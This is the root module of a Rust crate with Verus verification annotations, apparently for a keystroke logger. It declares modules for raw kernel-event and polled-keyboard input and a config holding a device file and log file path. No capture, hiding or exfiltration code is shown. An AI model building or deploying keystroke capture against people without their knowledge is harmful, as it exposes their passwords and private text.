//! Platform input normalization for a keystroke logger.
//!
//! Two observation strategies are unified behind one event abstraction:
//! an event-file model that decodes fixed-size binary records from a
//! kernel stream ([`raw::RawEventSource`]), and a polling model that
//! diffs whole-keyboard snapshots ([`polled::PolledStateSource`]).
//! Both produce normalized press/release events whose key codes are
//! translated to text labels, shift-dependent where the platform
//! reports shift transitions.
use vstd::prelude::*;

pub mod event;
pub mod input;
pub mod keys;
pub mod polled;
pub mod raw;
pub mod shift;
mod time;
pub mod vk;

verus! {

/// Runtime configuration chosen by the caller: an optional device file
/// to read raw events from, and an optional log file path.
pub struct Config {
    pub device_file: Option<String>,
    pub log_file: Option<String>,
}

impl Config {
    pub fn new(device_file: Option<String>, log_file: Option<String>) -> (c: Config)
        ensures
            c.device_file == device_file,
            c.log_file == log_file,
    {
        Config { device_file, log_file }
    }
}

} // verus!
